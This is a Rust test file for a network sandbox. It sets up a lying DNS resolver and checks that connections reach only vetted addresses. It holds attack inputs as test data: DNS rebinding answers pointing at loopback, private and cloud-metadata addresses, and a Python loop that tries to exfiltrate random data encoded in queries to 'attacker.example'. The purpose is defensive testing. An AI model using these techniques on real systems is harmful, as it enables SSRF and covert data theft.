//! Names: a server for them that lies, and questions that are meant to carry something.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use crate::world::{EVERYONE, PRIVATE, PUBLIC, PUBLIC_V6, World, is_left_alone};

/// A name server of this internet, which nobody but the proxy should reach.
struct Resolver {
    asked: Arc<Mutex<Vec<String>>>,
}

impl Resolver {
    /// `answers`: the addresses of a name, for the question of this number and kind; none: the server fails.
    fn start(world: &World, answers: fn(&str, usize) -> Option<Vec<IpAddr>>) -> Self {
        let folder = world.folder.path();
        std::fs::write(
            folder.join("resolv.conf"),
            format!("nameserver {PUBLIC}\noptions timeout:2 attempts:1\n"),
        )
        .unwrap();
        std::fs::write(folder.join("nsswitch.conf"), "hosts: files dns\n").unwrap();
        let folder = folder.display();
        let script = format!(
            "for file in resolv.conf nsswitch.conf; do mount --bind {folder}/$file $(realpath /etc/$file); done"
        );
        let made = world.inside("sh").args(["-ec", &script]).output().unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        let socket = world.within(|| UdpSocket::bind((PUBLIC, 53)).unwrap());
        let asked = Arc::new(Mutex::new(Vec::new()));
        let all = Arc::clone(&asked);
        std::thread::spawn(move || {
            let (count, mut bytes) = (AtomicUsize::new(0), [0; 1500]);
            while let Ok((length, from)) = socket.recv_from(&mut bytes) {
                let Some((name, kind)) = question(&bytes[..length]) else { continue };
                all.lock().unwrap().push(name.clone());
                // Each question for an address of the usual kind is answered otherwise than the one before.
                let number = match kind {
                    1 => count.fetch_add(1, Ordering::Relaxed),
                    _ => count.load(Ordering::Relaxed),
                };
                drop(socket.send_to(&answer(&bytes[..length], kind, answers(&name, number)), from));
            }
        });
        Self { asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

fn question(bytes: &[u8]) -> Option<(String, u8)> {
    let (mut at, mut labels) = (12, Vec::new());
    loop {
        let length = usize::from(*bytes.get(at)?);
        if length == 0 {
            return Some((labels.join("."), *bytes.get(at + 2)?));
        }
        labels.push(String::from_utf8_lossy(bytes.get(at + 1..at + 1 + length)?).to_lowercase());
        at += 1 + length;
    }
}

/// An answer that nobody may keep.
fn answer(question: &[u8], kind: u8, addresses: Option<Vec<IpAddr>>) -> Vec<u8> {
    let end = 12 + question[12..].iter().position(|byte| *byte == 0).unwrap() + 5;
    let failed = addresses.is_none();
    let records: Vec<Vec<u8>> = addresses
        .into_iter()
        .flatten()
        .filter_map(|address| match (address, kind) {
            (IpAddr::V4(v4), 1) => Some(v4.octets().to_vec()),
            (IpAddr::V6(v6), 28) => Some(v6.octets().to_vec()),
            _ => None,
        })
        .collect();
    let mut bytes = question[..2].to_vec();
    bytes.extend([
        0x81,
        if failed { 0x82 } else { 0x80 },
        0,
        1,
        0,
        u8::try_from(records.len()).unwrap(),
        0,
        0,
        0,
        0,
    ]);
    bytes.extend(&question[12..end]);
    for record in records {
        bytes.extend([0xc0, 12, 0, kind, 0, 1, 0, 0, 0, 0, 0, u8::try_from(record.len()).unwrap()]);
        bytes.extend(record);
    }
    bytes
}

fn v4(text: &str) -> IpAddr {
    text.parse().unwrap()
}

/// The right address every second time; between, what must never be dialled.
fn flips(name: &str, number: usize) -> Option<Vec<IpAddr>> {
    let wrong = [
        vec![v4("127.0.0.1")],
        vec![v4(PRIVATE)],
        vec![v4("169.254.169.254")],
        vec![v4(PUBLIC), v4(PRIVATE)],
        vec![v4("127.0.0.1"), v4(PUBLIC)],
        vec![v4("0.0.0.0")],
        vec![v4(PUBLIC), v4("169.254.169.254")],
    ];
    match name {
        "broken.test" => None,
        "flip.test" if number % 2 == 1 => Some(wrong[number / 2 % wrong.len()].clone()),
        "flip.test" => Some(vec![v4(PUBLIC)]),
        // Good in one version of addresses, and in the other never.
        "sides.test" => {
            let disguised = [
                Ipv6Addr::LOCALHOST,
                Ipv4Addr::new(10, 1, 2, 3).to_ipv6_mapped(),
                Ipv4Addr::new(169, 254, 169, 254).to_ipv6_mapped(),
                "fd00:ec2::254".parse().unwrap(),
                "64:ff9b::a01:203".parse().unwrap(),
            ];
            Some(vec![v4(PUBLIC), IpAddr::V6(disguised[number % disguised.len()])])
        }
        _ => Some(Vec::new()),
    }
}

fn forbidden(world: &World) -> Vec<TcpListener> {
    ["127.0.0.1", PRIVATE, "169.254.169.254", "::1"].map(|address| world.listen(address, 8000)).into()
}

/// How many of these attempts came to an answer; on the way, each has a connection of its own.
fn tries(name: &str, count: usize) -> String {
    format!(
        "python3 - <<'X'
import socket
reached = 0
for i in range({count}):
    try:
        s = socket.create_connection(('{name}', 8000), 10); s.settimeout(10)
        s.sendall(b'GET /%d HTTP/1.1\\r\\nHost: {name}:8000\\r\\nConnection: close\\r\\n\\r\\n' % i)
        reached += s.recv(12).endswith(b' 200')
        s.close()
    except OSError: pass
print(reached)
X"
    )
}

#[test]
fn egr_07_what_is_dialled_is_what_was_checked_whatever_the_name_turns_to() {
    for who in EVERYONE {
        let world = World::new(who);
        let resolver = Resolver::start(&world, flips);
        let (server, listeners) = (world.http(PUBLIC, 8000), forbidden(&world));
        let count = tests::scale(1_000, 100);
        let said = world.run(&["--allow", "flip.test:8000"], &tries("flip.test", count)).ok();
        let reached: usize = said.out.trim().parse().unwrap();
        // Every second answer was right, so that the test can fail; no more than that came through.
        assert_eq!((reached, server.asked().len()), (count / 2, count / 2), "{who:?} {}", said.err);
        assert!(resolver.asked().len() >= count, "each connection asks anew");
        for listener in &listeners {
            assert!(is_left_alone(listener), "{who:?}");
        }
        // What cannot be asked for is not reached either.
        let said = world.run(&["--allow", "broken.test:8000"], &tries("broken.test", 3)).ok();
        assert_eq!(said.out.trim(), "0");
        said.tells("broken.test");
        assert_eq!(server.asked().len(), count / 2);
    }
}

#[test]
fn adv_n06_one_forbidden_address_of_a_name_refuses_all_of_them() {
    for who in EVERYONE {
        let world = World::new(who);
        let _resolver = Resolver::start(&world, flips);
        let (server, v6) = (world.http(PUBLIC, 8000), world.listen(PUBLIC_V6, 8000));
        let listeners = forbidden(&world);
        let count = tests::scale(1_000, 50);
        let said = world.run(&["--allow", "sides.test:8000"], &tries("sides.test", count)).ok();
        assert_eq!((said.out.trim(), server.asked().len()), ("0", 0), "{who:?} {}", said.err);
        assert!(is_left_alone(&v6) && listeners.iter().all(is_left_alone));
        // By the other doors it is the same.
        let script = "
            for way in '-x http://198.18.0.1:3128' '-p -x http://198.18.0.1:3128' '--socks5-hostname 198.18.0.1:3128'; do
              curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' $way http://sides.test:8000/ 2>/dev/null || true
            done";
        let said = world.run(&["--allow", "sides.test:8000"], script).ok();
        assert!(!said.out.contains("200") && said.out.lines().count() == 3, "{}", said.out);
        assert_eq!(server.asked().len(), 0);
        assert!(listeners.iter().all(is_left_alone));
        let refused = world.entries("network.connect");
        assert!(refused.iter().all(|entry| entry.decision == ledger::Decision::Refused), "{refused:?}");
    }
}

#[test]
fn adv_n02_datagrams_reach_nobody_but_our_own_answers_to_names() {
    for who in EVERYONE {
        let world = World::new(who);
        let ports: Vec<u16> = (0..20).map(|at| 1_000 + at * 2_971).chain([53, 443]).collect();
        let sockets: Vec<UdpSocket> = world.within(|| {
            let v4 = ports.iter().map(|port| UdpSocket::bind((PUBLIC, *port)).unwrap());
            v4.chain(ports.iter().map(|port| UdpSocket::bind((PUBLIC_V6, *port)).unwrap())).collect()
        });
        let script = format!(
            "python3 - <<'X'
import socket, struct
def question(name):
    q = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0)
    return q + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>2H', 1, 1)
def tell(to, port, data):
    s = socket.socket(socket.AF_INET6 if ':' in to else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try:
        s.sendto(data, (to, port)); return s.recv(2000)
    except OSError as error: return None
answered = []
for to in ('{PUBLIC}', '{PUBLIC_V6}'):
    for port in {ports:?}:
        if tell(to, port, b'a secret' if port != 53 else question('site.test')): answered.append((to, port))
print(answered)
# Ours, whoever is asked: an address that stands for the name.
print(tell('{PUBLIC}', 53, question('site.test'))[-4:-2] == bytes([198, 18]), tell('{PUBLIC}', 53, question('other.test'))[3] & 15)
X"
        );
        let said = world.run(&["--allow", "site.test:80"], &script).ok();
        let lines: Vec<&str> = said.out.lines().collect();
        assert_eq!(lines[1], "True 3", "{who:?} {} {}", said.out, said.err);
        let answered = lines[0].matches(", 53)").count();
        assert_eq!(lines[0].matches("('").count(), answered, "{who:?} {}", lines[0]);
        assert!(answered >= 1, "{}", lines[0]);
        let came = |socket: &UdpSocket| {
            socket.set_nonblocking(true).unwrap();
            socket.recv(&mut [0; 10]).is_ok()
        };
        assert!(!sockets.iter().any(came), "{who:?}");
    }
}

#[test]
fn adv_n03_a_secret_in_labels_is_asked_of_nobody_and_told_of() {
    for who in EVERYONE {
        let world = World::new(who);
        let resolver = Resolver::start(&world, |_, _| Some(vec![v4(PUBLIC)]));
        let _server = world.http(PUBLIC, 80);
        let script = format!(
            "python3 - <<'X'
import base64, os, socket, struct
def ask(server, name, kind):
    q = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>2H', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (server, 53))
    return s.recv(2000)[3] & 15
codes = set()
for i in range(100):
    label = base64.b32encode(os.urandom(30)).decode().lower().rstrip('=')
    for kind in (1, 16, 28, 5): codes.add(ask('{PUBLIC}' if i % 2 else '198.18.0.1', label + '.attacker.example', kind))
print(codes)
# A name that a rule could allow is answered here too; it is asked for outside only with a connection.
print(ask('198.18.0.1', 'aaaa.fine.test', 1))
X
test ! -e go && touch asked && while [ ! -e go ]; do sleep 0.02; done
curl -fsS -m 5 -o /dev/null http://bbbb.fine.test/ && echo reached"
        );
        let child = world
            .palisade(&["run", "--allow", "*.fine.test:80", "--", "sh", "-ec", &script])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        world.awaits("asked");
        assert_eq!(resolver.asked(), Vec::<String>::new(), "{who:?}");
        world.file("go", "");
        let said = child.wait_with_output().unwrap();
        assert_eq!(String::from_utf8_lossy(&said.stdout), "{3}\n0\nreached\n", "{who:?}");
        let asked = resolver.asked();
        assert!(!asked.is_empty() && asked.iter().all(|name| name == "bbbb.fine.test"), "{asked:?}");
        assert_eq!(world.entries("network.finding").len(), 1);
        let counts = &world.entries("network.counts")[0].detail;
        assert!(counts["names_refused"].parse::<u32>().unwrap() >= 400, "{counts:?}");
    }
}
